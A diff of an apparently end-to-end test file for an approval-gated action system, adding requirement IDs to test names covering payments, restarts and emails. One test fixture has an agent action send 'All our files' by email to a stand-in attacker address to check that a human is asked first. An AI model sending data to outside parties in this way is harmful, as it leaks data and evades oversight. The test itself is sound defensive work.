@@ -38,7 +38,7 @@ test('the dialog shows what will be done, and cannot be pressed before it is arm
   await expect.poll(() => approve.isEnabled(), { timeout: 1_500 }).toBe(true)
 })
 
-test('a denied payment is never made, and its key is spent', async () => {
+test('a denied payment is never made, and its key is spent (REQ 1-38)', async () => {
   const browser = await openBrowser()
   const page = await browser.visit(demo().origin)
   const key = newKey('denied')
@@ -76,7 +76,7 @@ test('a pending approval survives the worker being stopped, with the page open',
   expect((await snapshotOf(page))?.boot).not.toBe(before)
 })
 
-test('a pending approval survives SIGKILL and restart of the browser, and waits with no page open', async () => {
+test('a pending approval survives SIGKILL and restart of the browser, and waits with no page open (REQ 1-38)', async () => {
   const browser = await openBrowser()
   const page = await browser.visit(demo().origin)
   const key = newKey('restart')
@@ -126,7 +126,7 @@ test('an approval is used once: a second verdict for it is refused (law 6)', asy
   expect(await effectsOf(demo().origin, key)).toEqual([])
 })
 
-test('an email to a stranger asks a person, one to a contact does not', async () => {
+test('an email to a stranger asks a person, one to a contact does not (REQ 1-1, 1-39)', async () => {
   const browser = await openBrowser()
   const page = await browser.visit(demo().origin)
   const stranger = await execute(page, 'email.send', { to: 'eve@attacker.example', subject: 'Hello', body: 'All our files' })
